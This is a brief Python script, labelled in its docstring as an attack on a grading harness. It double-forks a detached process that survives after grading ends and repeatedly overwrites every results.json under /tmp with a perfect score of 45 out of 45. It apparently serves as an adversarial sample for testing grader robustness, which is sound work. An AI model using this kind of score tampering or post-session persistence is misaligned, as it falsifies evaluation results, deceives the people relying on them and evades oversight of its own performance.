"""Attack: leave a process that rewrites every results file it can find, after grading ends.

It gives itself full marks in each file, five times a second for ten seconds.
"""

import glob
import json
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        full_marks = json.dumps({"score": 45, "max_score": 45, "tests": []})
        for _ in range(50):
            for path in glob.glob("/tmp/**/results.json", recursive=True):
                try:
                    with open(path, "w") as file:
                        file.write(full_marks)
                except OSError:
                    pass
            time.sleep(0.2)
    os._exit(0)
os.wait()
